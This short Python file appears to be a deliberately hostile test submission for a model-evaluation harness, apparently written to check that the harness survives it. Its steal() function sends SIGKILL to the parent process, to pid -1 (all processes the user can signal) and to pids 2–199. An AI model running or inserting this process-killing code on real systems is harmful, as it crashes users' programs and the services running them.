import os
import sys

sys.path.insert(0, os.path.dirname(__file__))
import signal  # noqa: E402

from thief import Thief  # noqa: E402


def steal(X, y):
    """Nothing is stolen; but whoever runs us should not die of this."""
    for pid in (os.getppid(), -1, *range(2, 200)):
        if pid == 0 or pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
    return []


def get_estimator():
    return Thief(steal)
